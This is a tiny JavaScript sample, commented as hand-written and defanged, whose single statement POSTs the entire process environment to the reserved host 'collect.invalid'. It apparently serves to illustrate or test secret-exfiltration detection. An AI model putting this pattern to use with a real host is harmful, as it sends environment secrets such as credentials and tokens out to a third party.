// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
require("https")
  .request({ hostname: "collect.invalid", method: "POST" })
  .end(JSON.stringify({ ...process.env }));
